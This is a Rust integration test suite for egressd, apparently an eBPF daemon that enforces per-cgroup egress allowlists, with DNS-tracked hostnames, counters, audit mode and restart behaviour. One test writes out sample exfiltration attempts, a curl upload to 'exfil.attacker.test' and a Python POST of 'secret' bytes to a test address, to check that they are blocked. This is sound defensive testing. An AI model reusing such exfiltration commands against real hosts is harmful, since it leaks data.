//! `egressd run` governing cgroups by policy files: hostnames answered by a
//! DNS server in the test namespace, events, exact counters, several
//! policies, sub-cgroups, children and threads, audit mode, real clients.

use std::{thread, time::Duration};

use egress_tests::{
    dns::DnsServer,
    egressd::{bin, Daemon, TempDir, TestCgroup},
    listen::Listener,
    netns::Netns,
    require_root,
};

const PROBE: &str = env!("CARGO_BIN_EXE_probe");

fn probe(cg: &TestCgroup, ns: &Netns, mode: &str, addr: &str) -> String {
    let out = cg.run(ns, PROBE, &[mode, addr]).unwrap();
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// Polls `f` for up to `secs` seconds until it is true.
fn eventually(secs: u64, mut f: impl FnMut() -> bool) -> bool {
    for _ in 0..secs * 20 {
        if f() {
            return true;
        }
        thread::sleep(Duration::from_millis(50));
    }
    false
}

#[test]
fn hostname_rule_follows_dns_answers_and_ttls() {
    require_root();
    let ns = Netns::new("host").unwrap();
    let dns = DnsServer::start(
        &ns,
        "198.51.100.53:53",
        &[("api.model.test", &["198.51.100.1", "2001:db8::1"], 1)],
    )
    .unwrap();
    let (l1, l2, l6) = (
        Listener::tcp(&ns, "198.51.100.1:443").unwrap(),
        Listener::tcp(&ns, "198.51.100.2:443").unwrap(),
        Listener::tcp(&ns, "[2001:db8::1]:443").unwrap(),
    );
    let cg = TestCgroup::new("host").unwrap();
    let dir = TempDir::new("host").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                // The probe writes bare bytes, which name no host.
                "name: model-only\ncgroups: [{}]\nallow:\n  - host: api.model.test\n    ports: [443]\n    any_name_at_address: true\ndns:\n  upstream: [198.51.100.53]\n  min_ttl: 1\n  grace: 1\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    assert!(dns.asked().contains(&"api.model.test".to_string()));

    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:443"), "ok");
    assert_eq!(probe(&cg, &ns, "tcp", "[2001:db8::1]:443"), "ok");
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.2:443"), "error: 1");
    assert_eq!(l2.count(), 0);
    assert_eq!(l1.count(), 1);
    assert_eq!(l6.count(), 1);

    // A port the name is not allowed on: the event names the host.
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:80"), "error: 1");
    let events = daemon.wait_events(2);
    let port_event = events
        .iter()
        .find(|e| e["dport"] == 80)
        .expect("event for port 80");
    assert_eq!(port_event["host"], "api.model.test");
    assert_eq!(port_event["reason"], "port_not_allowed");

    // The name moves: the new address opens after a refresh, the old one
    // closes once its TTL and grace have run out.
    dns.set("api.model.test", &["198.51.100.2"], 1);
    assert!(
        eventually(8, || probe(&cg, &ns, "tcp", "198.51.100.2:443") == "ok"),
        "the new address was never allowed"
    );
    assert!(
        eventually(8, || probe(&cg, &ns, "tcp", "198.51.100.1:443")
            == "error: 1"),
        "the old address stayed allowed past TTL + grace"
    );
    assert!(
        daemon
            .metric("egressd_resolver_lookups_total", &[("result", "ok")])
            .unwrap()
            >= 2.0
    );
}

/// A hostname that resolves to an address an `ip` rule allows too: while
/// learned, the address allows both rules' ports; once the name moves and
/// the address expires, the `ip` rule's port stays allowed, the host's not.
#[test]
fn a_learned_address_that_is_also_a_prefix_rule_gives_it_back() {
    require_root();
    let ns = Netns::new("overlap").unwrap();
    let dns = DnsServer::start(
        &ns,
        "198.51.100.53:53",
        &[("api.model.test", &["198.51.100.1"], 1)],
    )
    .unwrap();
    let (web, api) = (
        Listener::tcp(&ns, "198.51.100.1:80").unwrap(),
        Listener::tcp(&ns, "198.51.100.1:443").unwrap(),
    );
    let cg = TestCgroup::new("overlap").unwrap();
    let dir = TempDir::new("overlap").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: overlap\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [80]\n  - host: api.model.test\n    ports: [443]\ndns:\n  upstream: [198.51.100.53]\n  min_ttl: 1\n  grace: 1\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let _daemon = Daemon::start(&ns, &policy).unwrap();
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:443"), "ok");
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:80"), "ok");
    dns.set("api.model.test", &["198.51.100.2"], 1);
    assert!(
        eventually(8, || probe(&cg, &ns, "tcp", "198.51.100.1:443")
            == "error: 1"),
        "the learned address stayed allowed past TTL + grace"
    );
    let reached = api.count();
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:443"), "error: 1");
    assert_eq!(
        api.count(),
        reached,
        "the listener received the refused connect"
    );
    assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:80"), "ok");
    assert_eq!(web.count(), 2);
}

#[test]
fn failed_lookups_keep_known_addresses_and_are_counted() {
    require_root();
    let ns = Netns::new("dnsdown").unwrap();
    let dns = DnsServer::start(
        &ns,
        "198.51.100.53:53",
        &[("api.model.test", &["198.51.100.1"], 1)],
    )
    .unwrap();
    let _l = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
    let cg = TestCgroup::new("dnsdown").unwrap();
    let dir = TempDir::new("dnsdown").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: p\ncgroups: [{}]\nallow:\n  - host: api.model.test\n    ports: [443]\ndns:\n  upstream: [198.51.100.53]\n  min_ttl: 1\n  grace: 60\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    drop(dns);
    assert!(
        eventually(15, || daemon
            .metric(
                "egressd_resolver_lookups_total",
                &[("policy", "p"), ("result", "error")]
            )
            .unwrap()
            >= 1.0),
        "resolver errors were not counted"
    );
    assert_eq!(
        probe(&cg, &ns, "tcp", "198.51.100.1:443"),
        "ok",
        "a failed lookup dropped a known address"
    );
    assert_eq!(
        probe(&cg, &ns, "tcp", "203.0.113.9:443"),
        "error: 1",
        "a failed lookup opened something"
    );
}

#[test]
fn events_and_exact_counters() {
    require_root();
    let ns = Netns::new("count").unwrap();
    let denied = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let _ok = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
    let udp_denied = Listener::udp(&ns, "203.0.113.9:9").unwrap();
    let cg = TestCgroup::new("count").unwrap();
    let dir = TempDir::new("count").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: counted\ncgroups: [{}]\nallow:\n  - cidr: 198.51.100.0/24\n    ports: [443]\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    for _ in 0..7 {
        assert_eq!(probe(&cg, &ns, "tcp", "203.0.113.9:443"), "error: 1");
    }
    for _ in 0..3 {
        assert_eq!(probe(&cg, &ns, "tcp", "198.51.100.1:443"), "ok");
    }
    for _ in 0..2 {
        assert_eq!(probe(&cg, &ns, "udp-sendto", "203.0.113.9:9"), "error: 1");
    }
    assert_eq!(denied.count(), 0);
    assert_eq!(udp_denied.count(), 0);

    let m = |labels: &[(&str, &str)]| {
        daemon
            .metric("egressd_egress_attempts_total", labels)
            .unwrap()
    };
    let p = ("policy", "counted");
    assert_eq!(
        m(&[
            p,
            ("verdict", "denied"),
            ("protocol", "tcp"),
            ("reason", "destination_not_allowed")
        ]),
        7.0
    );
    assert_eq!(m(&[p, ("verdict", "denied"), ("protocol", "udp")]), 2.0);
    assert_eq!(m(&[p, ("verdict", "allowed"), ("protocol", "tcp")]), 3.0);
    assert_eq!(
        daemon.metric("egressd_events_lost_total", &[p]).unwrap(),
        0.0
    );
    assert_eq!(
        daemon
            .metric("egressd_allowlist_entries", &[p, ("family", "ipv4")])
            .unwrap(),
        1.0
    );
    assert_eq!(
        daemon
            .metric("egressd_policy_info", &[p, ("mode", "enforce")])
            .unwrap(),
        1.0
    );

    let events = daemon.wait_events(9);
    assert_eq!(events.len(), 9, "one event per denied attempt: {events:?}");
    assert_eq!(
        daemon
            .metric("egressd_events_total", &[p, ("verdict", "denied")])
            .unwrap(),
        9.0
    );
    let cgroup_id = cg.cgroup.id().unwrap();
    for e in &events {
        assert_eq!(e["policy"], "counted");
        assert_eq!(e["verdict"], "denied");
        assert_eq!(e["daddr"], "203.0.113.9");
        assert_eq!(e["family"], "ipv4");
        assert_eq!(e["comm"], "probe");
        assert_eq!(e["uid"], 0);
        assert_eq!(e["cgroup_id"], cgroup_id);
        assert!(e["pid"].as_u64().unwrap() > 1);
        assert_eq!(e["pid"], e["tid"], "single-threaded probe");
        assert!(e["time"].as_str().unwrap().ends_with('Z'));
    }
    let udp: Vec<_> = events.iter().filter(|e| e["protocol"] == "udp").collect();
    assert_eq!(udp.len(), 2);
    assert_eq!(udp[0]["dport"], 9);
    assert_eq!(udp[0]["hook"], "sendmsg4");
}

#[test]
fn two_policies_side_by_side() {
    require_root();
    let ns = Netns::new("two").unwrap();
    let (la, lb) = (
        Listener::tcp(&ns, "198.51.100.1:443").unwrap(),
        Listener::tcp(&ns, "203.0.113.9:443").unwrap(),
    );
    let (cga, cgb) = (TestCgroup::new("a").unwrap(), TestCgroup::new("b").unwrap());
    let dir = TempDir::new("two").unwrap();
    dir.write(
        "a.yaml",
        &format!(
            "name: agent-a\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [443]\n",
            cga.rel_str()
        ),
    )
    .unwrap();
    dir.write(
        "b.yml",
        &format!(
            "name: agent-b\ncgroups: [{}]\nallow:\n  - ip: 203.0.113.9\n    ports: [443]\n",
            cgb.rel_str()
        ),
    )
    .unwrap();
    let daemon = Daemon::start(&ns, &dir.0).unwrap();
    assert_eq!(probe(&cga, &ns, "tcp", "198.51.100.1:443"), "ok");
    assert_eq!(probe(&cga, &ns, "tcp", "203.0.113.9:443"), "error: 1");
    assert_eq!(probe(&cgb, &ns, "tcp", "203.0.113.9:443"), "ok");
    assert_eq!(probe(&cgb, &ns, "tcp", "198.51.100.1:443"), "error: 1");
    // Each listener got its one allowed connection, nothing more.
    assert_eq!((la.count(), lb.count()), (1, 1));
    let events = daemon.wait_events(2);
    assert_eq!(events.len(), 2);
    let by = |p: &str| events.iter().find(|e| e["policy"] == p).unwrap()["daddr"].clone();
    assert_eq!(by("agent-a"), "203.0.113.9");
    assert_eq!(by("agent-b"), "198.51.100.1");
}

#[test]
fn sub_cgroups_children_and_threads_are_governed() {
    require_root();
    let ns = Netns::new("tree").unwrap();
    let denied = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("tree").unwrap();
    let dir = TempDir::new("tree").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: tree\ncgroups: [{}]\nallow: []\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    // A process in a sub-cgroup created after the policy was loaded.
    let sub = cg.child("worker").unwrap();
    let deep = sub.child("deeper").unwrap();
    assert_eq!(probe(&sub, &ns, "tcp", "203.0.113.9:443"), "error: 1");
    assert_eq!(probe(&deep, &ns, "tcp", "203.0.113.9:443"), "error: 1");
    // A grandchild process, through a shell.
    let out = cg
        .run(
            &ns,
            "sh",
            &[
                "-c",
                &format!("{PROBE} tcp 203.0.113.9:443; {PROBE} udp-sendto 203.0.113.9:443"),
            ],
        )
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&out.stdout), "error: 1\nerror: 1\n");
    // A thread and a forked child, in Python.
    let script = r#"
import socket, threading, os
def go(tag):
    try:
        socket.create_connection(('203.0.113.9', 443), timeout=2)
        print(tag, 'connected', flush=True)
    except PermissionError:
        print(tag, 'refused', flush=True)
t = threading.Thread(target=go, args=('thread',)); t.start(); t.join()
pid = os.fork()
if pid == 0:
    go('fork'); os._exit(0)
os.waitpid(pid, 0)
"#;
    let out = cg.run(&ns, "python3", &["-c", script]).unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "thread refused\nfork refused\n"
    );
    assert_eq!(denied.count(), 0);
    let events = daemon.wait_events(6);
    assert!(events.iter().all(|e| e["policy"] == "tree"));
    let thread_event = events
        .iter()
        .find(|e| e["comm"] != "probe" && e["pid"] != e["tid"]);
    assert!(
        thread_event.is_some(),
        "no event from the Python thread (tid != pid): {events:?}"
    );
    let sub_id = deep.cgroup.id().unwrap();
    assert!(
        events.iter().any(|e| e["cgroup_id"] == sub_id),
        "event cgroup is the sub-cgroup's"
    );
}

#[test]
fn audit_mode_allows_and_reports() {
    require_root();
    let ns = Netns::new("audit").unwrap();
    let target = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("audit").unwrap();
    let dir = TempDir::new("audit").unwrap();
    let policy = dir
        .write("p.yaml", &format!("name: watch\nmode: audit\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [443]\n", cg.rel_str()))
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    assert_eq!(probe(&cg, &ns, "tcp", "203.0.113.9:443"), "ok");
    assert_eq!(target.count(), 1, "audit mode must not block");
    let events = daemon.wait_events(1);
    assert_eq!(events[0]["verdict"], "audited");
    assert_eq!(events[0]["reason"], "destination_not_allowed");
    assert_eq!(
        daemon
            .metric(
                "egressd_egress_attempts_total",
                &[("policy", "watch"), ("verdict", "audited")]
            )
            .unwrap(),
        1.0
    );
}

#[test]
fn real_clients_curl_and_python() {
    require_root();
    let ns = Netns::new("real").unwrap();
    let (ok, bad) = (
        Listener::tcp(&ns, "198.51.100.1:443").unwrap(),
        Listener::tcp(&ns, "203.0.113.9:443").unwrap(),
    );
    let cg = TestCgroup::new("real").unwrap();
    let dir = TempDir::new("real").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: real\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [443]\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let curl = |url: &str| {
        cg.run(
            &ns,
            "curl",
            &[
                "-sS",
                "--max-time",
                "1",
                "--resolve",
                "api.model.test:443:198.51.100.1",
                "--resolve",
                "exfil.attacker.test:443:203.0.113.9",
                url,
            ],
        )
        .unwrap()
    };
    // The listener accepts and never answers: curl times out (28) after connecting.
    assert_eq!(
        curl("http://api.model.test:443/v1/summarize").status.code(),
        Some(28)
    );
    assert_eq!(ok.count(), 1);
    let refused = curl("http://exfil.attacker.test:443/upload");
    assert_eq!(
        refused.status.code(),
        Some(7),
        "curl: {}",
        String::from_utf8_lossy(&refused.stderr)
    );
    let py = cg
        .run(&ns, "python3", &["-c", "import urllib.request\ntry:\n    urllib.request.urlopen('http://203.0.113.9:443/', data=b'secret', timeout=2)\nexcept OSError as e:\n    print(type(e).__name__, getattr(e, 'reason', e))"])
        .unwrap();
    assert!(
        String::from_utf8_lossy(&py.stdout).contains("Operation not permitted"),
        "{py:?}"
    );
    assert_eq!(bad.count(), 0);
    let events = daemon.wait_events(2);
    assert!(events.iter().any(|e| e["comm"] == "curl"));
    assert!(events.iter().any(|e| e["comm"] == "python3"));
}

#[test]
fn stopping_the_daemon_leaves_enforcement_in_place_until_detach() {
    require_root();
    let ns = Netns::new("stop").unwrap();
    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("stop").unwrap();
    let dir = TempDir::new("stop").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: p\ncgroups: [{}]\nallow: []\n", cg.rel_str()),
        )
        .unwrap();
    let mut daemon = Daemon::start(&ns, &policy).unwrap();
    assert_eq!(daemon.stop().unwrap(), Some(0), "SIGTERM is a clean exit");
    assert_eq!(
        probe(&cg, &ns, "tcp", "203.0.113.9:443"),
        "error: 1",
        "enforcement ended with the daemon"
    );
    assert_eq!(bad.count(), 0);
    let status = std::process::Command::new(bin())
        .args(["detach", "--instance", &daemon.instance])
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(
        probe(&cg, &ns, "tcp", "203.0.113.9:443"),
        "ok",
        "detach left programs attached"
    );
}

#[test]
fn a_broken_policy_is_refused_before_anything_is_attached() {
    require_root();
    let dir = TempDir::new("broken").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            "name: p\ncgroups: [x.slice]\nallow:\n  - cidr: 203.0.113.0/33\n",
        )
        .unwrap();
    let out = std::process::Command::new(bin())
        .args(["run", "--no-metrics", "--policy"])
        .arg(&policy)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("p.yaml:4:"), "{err}");
    assert!(err.contains("cidr"), "{err}");
}

/// A deny storm while the daemon is stopped (SIGSTOP) overflows a one-page
/// ring buffer: the counters stay exact, and every event is either
/// delivered or counted as lost.
#[test]
fn counters_stay_exact_when_the_ring_buffer_overflows() {
    require_root();
    let ns = Netns::new("storm").unwrap();
    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("storm").unwrap();
    let dir = TempDir::new("storm").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: storm\ncgroups: [{}]\nallow: []\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start_with(&ns, &policy, &["--ring-buffer-bytes", "4096"]).unwrap();
    const N: u64 = 2000;
    daemon.signal(libc::SIGSTOP);
    let out = cg
        .run(
            &ns,
            PROBE,
            &["tcp", "203.0.113.9:443", "--count", &N.to_string()],
        )
        .unwrap();
    daemon.signal(libc::SIGCONT);
    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "error: 1");
    assert_eq!(bad.count(), 0);
    let p = ("policy", "storm");
    let denied = daemon
        .metric("egressd_egress_attempts_total", &[p, ("verdict", "denied")])
        .unwrap();
    assert_eq!(denied, N as f64, "the per-CPU counters lost a deny");
    let lost = daemon.metric("egressd_events_lost_total", &[p]).unwrap();
    assert!(
        lost > 0.0,
        "a 4 KiB ring buffer took {N} events while nobody read it"
    );
    let delivered = daemon.wait_events((N as f64 - lost) as usize).len() as f64;
    assert_eq!(
        delivered + lost,
        N as f64,
        "events neither delivered nor counted lost"
    );
    assert_eq!(
        daemon.metric("egressd_events_total", &[p]).unwrap(),
        delivered
    );
}

/// SIGKILL the daemon while a client keeps trying an allowed and a denied
/// destination, then start it again: the allowed one keeps working, the
/// denied one stays refused, before, during and after.
#[test]
fn sigkill_and_restart_leave_no_gap() {
    require_root();
    let ns = Netns::new("kill").unwrap();
    let _ok = Listener::tcp(&ns, "198.51.100.1:443").unwrap();
    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("kill").unwrap();
    let dir = TempDir::new("kill").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!(
                "name: p\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [443]\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let first = Daemon::start(&ns, &policy).unwrap();
    let prober = r#"
import socket, time
ok = refused = leaked = failed = 0
end = time.time() + 4
while time.time() < end:
    for addr, allowed in ((("198.51.100.1", 443), True), (("203.0.113.9", 443), False)):
        try:
            socket.create_connection(addr, timeout=1).close()
            if allowed: ok += 1
            else: leaked += 1
        except PermissionError:
            if allowed: failed += 1
            else: refused += 1
    time.sleep(0.002)
print(ok, failed, refused, leaked)
"#;
    let probe = cg
        .command(&ns, "python3")
        .args(["-c", prober])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    thread::sleep(Duration::from_millis(700));
    let instance = first.kill().unwrap();
    thread::sleep(Duration::from_millis(700));
    let second = Daemon::start_instance(&ns, &policy, &instance.0, &[]).unwrap();
    let out = probe.wait_with_output().unwrap();
    let counts: Vec<u64> = String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .map(|n| n.parse().unwrap())
        .collect();
    let [ok, failed, refused, leaked] = counts[..] else {
        panic!("prober printed {out:?}")
    };
    assert!(ok > 50 && refused > 50, "the prober barely ran: {counts:?}");
    assert_eq!(
        failed, 0,
        "an allowed connection was refused across kill and restart"
    );
    assert_eq!(
        leaked, 0,
        "a denied connection got through across kill and restart"
    );
    assert_eq!(bad.count(), 0);
    let root = egressd::kernel::pins::root().unwrap();
    let stale: Vec<_> = std::fs::read_dir(&root)
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .filter(|n| {
            n.to_string_lossy()
                .starts_with(&format!("{}.stale", instance.0))
        })
        .collect();
    assert!(
        stale.is_empty(),
        "the restarted daemon left the old pins: {stale:?}"
    );
    drop(second);
}

/// systemd removes a unit's cgroup and creates it again on restart; the new
/// cgroup has a new id and nothing attached. egressd creates a removed
/// governed cgroup again at once, and governs a recreated one.
#[test]
fn a_governed_cgroup_removed_and_created_again_stays_governed() {
    require_root();
    let ns = Netns::new("recreate").unwrap();
    let bad = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let cg = TestCgroup::new("recreate").unwrap();
    let dir = TempDir::new("recreate").unwrap();
    let policy = dir
        .write(
            "p.yaml",
            &format!("name: p\ncgroups: [{}]\nallow: []\n", cg.rel_str()),
        )
        .unwrap();
    let daemon = Daemon::start(&ns, &policy).unwrap();
    let first = cg.cgroup.id().unwrap();
    assert_eq!(probe(&cg, &ns, "tcp", "203.0.113.9:443"), "error: 1");
    for round in 0..3 {
        std::fs::remove_dir(&cg.cgroup.path).unwrap();
        // Recreated by egressd, or by us if we are first (as systemd would
        // be): either way the cgroup must be governed before it is used.
        let _ = std::fs::create_dir(&cg.cgroup.path);
        let id = cg.cgroup.id().unwrap();
        assert_ne!(id, first, "round {round}: not a new cgroup");
        assert!(
            eventually(5, || daemon
                .log
                .lock()
                .unwrap()
                .iter()
                .filter(|l| l.contains("governed again"))
                .count()
                > round),
            "round {round}: egressd did not govern the new cgroup"
        );
        assert_eq!(
            probe(&cg, &ns, "tcp", "203.0.113.9:443"),
            "error: 1",
            "round {round}"
        );
    }
    assert_eq!(bad.count(), 0);
}

/// `detach --policy`: one policy's programs go, the other's stay.
#[test]
fn detach_one_policy() {
    require_root();
    let ns = Netns::new("detach").unwrap();
    let target = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
    let (cga, cgb) = (
        TestCgroup::new("da").unwrap(),
        TestCgroup::new("db").unwrap(),
    );
    let dir = TempDir::new("detach").unwrap();
    dir.write(
        "a.yaml",
        &format!("name: pa\ncgroups: [{}]\nallow: []\n", cga.rel_str()),
    )
    .unwrap();
    dir.write(
        "b.yaml",
        &format!("name: pb\ncgroups: [{}]\nallow: []\n", cgb.rel_str()),
    )
    .unwrap();
    let mut daemon = Daemon::start(&ns, &dir.0).unwrap();
    daemon.stop().unwrap();
    let out = std::process::Command::new(bin())
        .args(["detach", "--instance", &daemon.instance, "--policy", "pa"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        probe(&cga, &ns, "tcp", "203.0.113.9:443"),
        "ok",
        "pa still attached"
    );
    assert_eq!(
        probe(&cgb, &ns, "tcp", "203.0.113.9:443"),
        "error: 1",
        "pb was detached too"
    );
    assert_eq!(target.count(), 1, "only pa's connection arrived");
    let again = std::process::Command::new(bin())
        .args(["detach", "--policy", "pa"])
        .output()
        .unwrap();
    assert_eq!(
        again.status.code(),
        Some(1),
        "detaching nothing is an error"
    );
}

/// `--log-format json`: every line egressd logs is a JSON object with a
/// timestamp, a level and a message (what a log collector parses), its
/// fields beside them; a failure to start is one such line too.
#[test]
fn the_log_is_json_lines_when_asked() {
    require_root();
    let ns = Netns::new("logjson").unwrap();
    let tmp = TempDir::new("logjson").unwrap();
    let cg = TestCgroup::new("logjson").unwrap();
    let policy = tmp
        .write(
            "p.yaml",
            &format!(
                "name: logjson\ncgroups: [{}]\nallow:\n  - ip: 198.51.100.1\n    ports: [443]\n",
                cg.rel_str()
            ),
        )
        .unwrap();
    let daemon = Daemon::start_with(&ns, &policy, &["--log-format", "json"]).unwrap();
    let log = daemon.log.lock().unwrap().clone();
    assert!(log.len() >= 2, "{log:?}");
    for line in &log {
        let v: serde_json::Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert!(
            v["timestamp"].is_string() && v["level"].is_string() && v["message"].is_string(),
            "{line}"
        );
    }
    let enforcing = log
        .iter()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .find(|v| v["message"] == "enforcing")
        .expect("an `enforcing` line");
    assert_eq!(enforcing["level"], "INFO");
    assert!(
        enforcing["policies"]
            .as_str()
            .is_some_and(|p| p.contains("logjson")),
        "{enforcing}"
    );
    drop(daemon);
    let out = std::process::Command::new(bin())
        .args(["run", "--log-format", "json", "--no-metrics", "--policy"])
        .arg(tmp.0.join("missing.yaml"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    let v: serde_json::Value =
        serde_json::from_str(err.trim()).unwrap_or_else(|e| panic!("{e}: {err}"));
    assert_eq!(v["level"], "ERROR", "{err}");
    assert!(
        v["message"].as_str().unwrap().contains("missing.yaml"),
        "{err}"
    );
}
